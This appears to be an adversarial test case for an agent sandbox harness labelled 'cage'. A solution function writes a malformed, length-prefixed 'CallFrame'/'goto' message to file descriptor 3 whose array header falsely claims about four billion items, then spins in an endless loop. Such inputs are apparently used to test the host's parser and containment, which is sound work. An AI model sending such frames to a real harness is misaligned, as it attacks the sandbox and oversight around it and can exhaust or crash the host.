# kind: frames
# tries: an array that says it has four billion items
# layer: cage
def solution(agent, start_from=1):
    import os
    body = b'\x94\xa9CallFrame\xa4goto\xdd\xff\xff\xff\xff'
    os.write(3, len(body).to_bytes(4, 'big') + body)
    while True: pass
